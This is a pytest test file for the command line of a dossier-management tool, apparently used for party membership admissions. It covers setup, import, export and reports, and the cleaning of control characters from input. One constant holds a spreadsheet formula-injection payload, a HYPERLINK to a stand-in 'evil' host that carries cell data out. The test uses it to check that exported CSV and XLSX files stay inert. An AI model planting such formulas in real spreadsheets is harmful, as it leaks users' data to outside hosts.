"""The command line that writes: setup files, export, import --update (issue 13, item 4 in part)."""

from __future__ import annotations

import json
from pathlib import Path

import pendulum
import pytest
from click.testing import CliRunner

from ketnap import Course, Document, OrganizationTree, Quotas, Stage, Unit, Workflow
from ketnap.cli import cli
from ketnap.organizations import course_data
from ketnap.storage import dumps, loads
from ketnap.testing import make_dossier, walk
from tests.conftest import MEETING

TREE = OrganizationTree(
    [
        Unit(code="H", name="Đảng bộ huyện", level="district"),
        Unit(code="C", name="Chi bộ cơ sở", level="base_branch", parent="H", members=15),
    ]
)


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def write(path: Path, data: object) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def test_a_store_filled_by_the_command_line_gives_a_report(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    dossier = make_dossier(meeting=MEETING, organization=TREE.organization("C"))
    walk(Workflow(), dossier, meeting=MEETING, until=Stage.PROBATION)
    document = tmp_path / "HS-001.json"
    document.write_text(dumps(dossier), encoding="utf-8")
    course = Course(code="K1", unit="H", opened_on=pendulum.Date(2024, 3, 1),
                    closed_on=pendulum.Date(2024, 3, 9), trainees=40)  # fmt: skip
    code, out = run(
        "setup", "--store", str(store),
        "--tree", str(write(tmp_path / "tree.json", TREE.to_data())),
        "--quotas", str(write(tmp_path / "quotas.json", Quotas({("C", 2024): 2}).to_data())),
        "--courses", str(write(tmp_path / "courses.json", [course_data(course)])),
    )  # fmt: skip
    assert code == 0, out
    assert "cây tổ chức: 2 đơn vị" in out
    assert run("import", str(document), "--store", str(store))[0] == 0
    code, out = run("report", "--store", str(store), "--unit", "H", "--year", "2024",
                    "--format", "json")  # fmt: skip
    assert code == 0, out
    data = json.loads(out)
    assert (data["admitted"], data["plan"], data["courses"], data["trainees"]) == (1, 2, 1, 40)


def test_bad_setup_files_are_one_line_errors(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    bad_quota = write(tmp_path / "q.json", [{"unit": "C", "year": 0, "admissions": 1}])
    code, out = run("setup", "--store", str(store), "--quotas", str(bad_quota))
    assert code == 1
    assert "quotas[0].year" in out
    not_json = tmp_path / "t.json"
    not_json.write_text("{", encoding="utf-8")
    code, out = run("setup", "--store", str(store), "--tree", str(not_json))
    assert code == 1
    assert "not a JSON file" in out
    code, out = run("setup", "--store", str(store))
    assert code == 2
    bad_course = write(tmp_path / "c.json", [{"code": "K1", "unit": "H"}])
    code, out = run("setup", "--store", str(store), "--courses", str(bad_course))
    assert code == 1
    assert "courses[0]" in out


def test_export_then_import_gives_equal_dossiers_and_update_replaces(tmp_path: Path) -> None:
    store, copy = tmp_path / "s.db", tmp_path / "copy.db"
    dossier = make_dossier(meeting=MEETING, organization=TREE.organization("C"))
    walk(Workflow(), dossier, meeting=MEETING, until=Stage.PROPOSED)
    (tmp_path / "in.json").write_text(dumps(dossier), encoding="utf-8")
    assert run("import", str(tmp_path / "in.json"), "--store", str(store))[0] == 0
    assert run("setup", "--store", str(store), "--tree",
               str(write(tmp_path / "tree.json", TREE.to_data())))[0] == 0  # fmt: skip
    code, out = run("export", "--store", str(store), "--out", str(tmp_path / "out"), "--setup")
    assert code == 0, out
    exported = tmp_path / "out" / "HS-001.json"
    assert loads(exported.read_bytes()).history == dossier.history
    assert OrganizationTree.from_data(json.loads((tmp_path / "out" / "tree.json").read_text()))
    assert run("import", str(exported), "--store", str(copy))[0] == 0
    # Importing again without --update is refused: the dossier is already stored.
    changed = loads(exported.read_bytes())
    changed.add_documents([Document(form="5B-KNĐ", dated=MEETING)])
    exported.write_text(dumps(changed), encoding="utf-8")
    code, out = run("import", str(exported), "--store", str(copy))
    assert code == 1
    code, out = run("import", str(exported), "--store", str(copy), "--update")
    assert code == 0, out
    code, out = run("export", "--store", str(copy), "--out", str(tmp_path / "again"))
    assert "5B-KNĐ" in loads((tmp_path / "again" / "HS-001.json").read_bytes()).documents


def test_create_then_record_acts_and_keep_a_refusal(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    dossier = make_dossier(meeting=MEETING, organization=TREE.organization("C"))
    new = tmp_path / "new.json"
    new.write_text(dumps(dossier), encoding="utf-8")
    code, out = run("create", "--store", str(store), str(new), "--lang", "en")
    assert (code, out.strip()) == (0, "HS-001 created")
    assert run("create", "--store", str(store), str(new))[0] == 1  # already stored
    trained = MEETING.subtract(months=6).isoformat()
    code, out = run("act", "--store", str(store), "HS-001", "complete_training",
                    "--on", trained, "--actor", "branch", "--lang", "en")  # fmt: skip
    assert code == 0, out
    assert "Awareness course completed" in out
    # Proposing straight from the course is refused; with --keep-refusal it is counted.
    code, out = run("act", "--store", str(store), "HS-001", "propose_admission",
                    "--on", MEETING.isoformat(), "--actor", "branch", "--keep-refusal",
                    "--lang", "en")  # fmt: skip
    assert code == 1
    assert "workflow.step_available" in out
    assert "Refusal kept" in out
    code, out = run("export", "--store", str(store), "--out", str(tmp_path / "out"))
    kept = loads((tmp_path / "out" / "HS-001.json").read_bytes())
    assert kept.stage == Stage.TRAINED
    assert [r.rules[0].rule_id for r in kept.refusals] == ["workflow.step_available"]
    code, out = run("act", "--store", str(store), "HS-404", "complete_training",
                    "--on", trained, "--actor", "branch")  # fmt: skip
    assert code == 1
    assert "HS-404" in out


def test_ids_that_share_a_file_name_are_both_exported(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    files: list[str] = []
    for dossier_id in ("HS/1", "HS:1"):
        dossier = make_dossier(meeting=MEETING, id=dossier_id)
        path = tmp_path / f"{len(files)}.json"
        path.write_text(dumps(dossier), encoding="utf-8")
        files.append(str(path))
    assert run("import", *files, "--store", str(store))[0] == 0
    assert run("export", "--store", str(store), "--out", str(tmp_path / "out"))[0] == 0
    ids = {loads(p.read_bytes()).id for p in (tmp_path / "out").glob("*.json")}
    assert ids == {"HS/1", "HS:1"}


# --- issue 24: what an office's files carry in and out ------------------------------------------

FORMULA = '=HYPERLINK("http://evil/?"&B2,"x")'


def test_every_file_the_commands_write_holds_no_live_formula(tmp_path: Path) -> None:
    from tests.test_sheets import live_cells  # noqa: PLC0415

    store = tmp_path / "s.db"
    tree = OrganizationTree(
        [
            Unit(code="=H", name=FORMULA, level="district"),
            Unit(code="@C", name="+Chi bộ", level="base_branch", parent="=H", members=15),
        ]
    )
    dossier = make_dossier(meeting=MEETING, organization=tree.organization("@C"), name=FORMULA)
    walk(Workflow(), dossier, meeting=MEETING, until=Stage.PROBATION)
    document = tmp_path / "hs.json"
    document.write_text(dumps(dossier), encoding="utf-8")
    course = Course(code="-K1", unit="=H", opened_on=pendulum.Date(2024, 3, 1),
                    closed_on=pendulum.Date(2024, 3, 9), trainees=40)  # fmt: skip
    code, output = run(
        "setup", "--store", str(store),
        "--tree", str(write(tmp_path / "tree.json", tree.to_data())),
        "--quotas", str(write(tmp_path / "q.json", Quotas({("@C", 2024): 2}).to_data())),
        "--courses", str(write(tmp_path / "c.json", [course_data(course)])),
    )  # fmt: skip
    assert code == 0, output
    assert run("import", str(document), "--store", str(store))[0] == 0
    written: list[Path] = []
    for sheet in ("xlsx", "csv"):
        out = tmp_path / sheet
        code, output = run("export", "--store", str(store), "--out", str(out), "--setup",
                           "--sheet", sheet)  # fmt: skip
        assert code == 0, output
        written += [path for path in out.iterdir() if path.suffix in {".csv", ".xlsx"}]
    report = tmp_path / "report.csv"
    assert run("report", "--store", str(store), "--unit", "=H", "--year", "2024",
               "--format", "csv", "--out", str(report))[0] == 0  # fmt: skip
    form = tmp_path / "bieu-3.xlsx"
    assert run("statistics", "--store", str(store), "--unit", "=H", "--on", "2024-12-31",
               "--format", "xlsx", "--out", str(form))[0] == 0  # fmt: skip
    code, output = run("statistics", "--store", str(store), "--unit", "=H", "--on",
                       "2024-12-31", "--format", "csv")  # fmt: skip
    (tmp_path / "bieu-3.csv").write_text(output, encoding="utf-8")
    written += [report, form, tmp_path / "bieu-3.csv"]
    assert len(written) == 9  # the 9 files
    assert {str(path.name): live_cells(path) for path in written if live_cells(path)} == {}
    # What was written as text reads back as it was stored.
    again = tmp_path / "again.db"
    assert run("setup", "--store", str(again), "--sheet",
               str(tmp_path / "xlsx" / "thiet-lap.xlsx"))[0] == 0  # fmt: skip
    rows = tmp_path / "csv" / "danh-sach.csv"
    code, output = run(
        "import-sheet", "--store", str(again), str(rows), "--adopted-on", "2025-01-05"
    )
    assert code == 0, output
    code, output = run("export", "--store", str(again), "--out", str(tmp_path / "json"), "--setup")
    assert code == 0, output
    assert json.loads((tmp_path / "json" / "tree.json").read_text())["units"][0]["name"] == FORMULA
    assert loads((tmp_path / "json" / "HS-001.json").read_bytes()).candidate.name == FORMULA


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("Huyện\x1b[2J", "U+001B"),
        ("Huyện\u202e", "U+202E"),
        ("Huyện\u0000", "U+0000"),
        ("H" * 100_000, "longer than 1,000 characters"),
    ],
    ids=["escape", "bidi", "NUL", "100 KB"],
)
@pytest.mark.parametrize("key", ["name", "code"])
def test_a_unit_text_is_cleaned_as_a_dossiers_and_named_by_its_key(
    tmp_path: Path, name: str, reason: str, key: str
) -> None:
    data = TREE.to_data()
    data["units"][1][key] = name
    code, out = run("setup", "--store", str(tmp_path / "s.db"),
                    "--tree", str(write(tmp_path / "tree.json", data)))  # fmt: skip
    assert code == 1
    assert f"Error: tree.units[1].{key}: " in out
    assert reason in out
    assert "\x1b" not in out
    assert not (tmp_path / "s.db").exists()  # refused before the store is opened


def test_a_unit_name_in_nfd_is_stored_in_nfc(tmp_path: Path) -> None:
    data = TREE.to_data()
    data["units"][0]["name"] = "Đảng bộ huye\u0302\u0323n"
    store = tmp_path / "s.db"
    assert (
        run("setup", "--store", str(store), "--tree", str(write(tmp_path / "t.json", data)))[0] == 0
    )
    run("export", "--store", str(store), "--out", str(tmp_path / "o"), "--setup")
    tree = json.loads((tmp_path / "o" / "tree.json").read_text(encoding="utf-8"))
    assert tree["units"][0]["name"] == "Đảng bộ huyện"


def test_a_quota_or_course_text_is_cleaned_and_named_by_its_key(tmp_path: Path) -> None:
    quotas = write(tmp_path / "q.json", [{"unit": "C\u202e", "year": 2024, "admissions": 1}])
    code, out = run("setup", "--store", str(tmp_path / "s.db"), "--quotas", str(quotas))
    assert (code, "Error: quotas[0].unit: " in out) == (1, True)
    course = {"code": "K\x07", "unit": "H", "opened_on": "2024-01-01", "closed_on": "2024-01-02",
              "trainees": 3}  # fmt: skip
    code, out = run("setup", "--store", str(tmp_path / "s.db"),
                    "--courses", str(write(tmp_path / "c.json", [course])))  # fmt: skip
    assert (code, "Error: courses[0].code: " in out) == (1, True)


def test_setup_reads_a_tree_in_windows_1258_and_says_so(tmp_path: Path) -> None:
    from tests.test_sheets import UNIT_HEADER, write_text  # noqa: PLC0415

    rows: list[list[object]] = [UNIT_HEADER, ["H", "Đảng bộ huyện Yên Lạc", "district", "", "", ""],
                                ["C", "Chi bộ cơ sở", "base_branch", "H", 15, ""]]  # fmt: skip
    path = write_text(tmp_path / "to-chuc.csv", rows, "cp1258")
    store = tmp_path / "s.db"
    code, out = run("setup", "--store", str(store), "--sheet", str(path))
    assert code == 1
    assert "--encoding cp1258" in out
    code, out = run("setup", "--store", str(store), "--sheet", str(path), "--encoding", "cp1258",
                    "--lang", "en")  # fmt: skip
    assert code == 0, out
    assert f"Reading {path} as Windows-1258" in out
    run("export", "--store", str(store), "--out", str(tmp_path / "o"), "--setup")
    tree = json.loads((tmp_path / "o" / "tree.json").read_text(encoding="utf-8"))
    assert tree["units"][0]["name"] == "Đảng bộ huyện Yên Lạc"
